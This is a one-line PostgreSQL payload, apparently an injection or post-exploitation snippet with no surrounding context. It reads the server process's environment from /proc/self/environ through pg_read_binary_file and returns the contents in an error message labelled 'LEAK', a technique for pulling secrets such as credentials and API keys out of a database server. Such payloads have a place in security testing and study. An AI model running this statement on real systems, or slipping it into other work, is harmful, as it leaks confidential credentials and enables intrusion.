DO $$ BEGIN RAISE EXCEPTION 'LEAK %', encode(pg_read_binary_file('/proc/self/environ'), 'escape'); END $$;
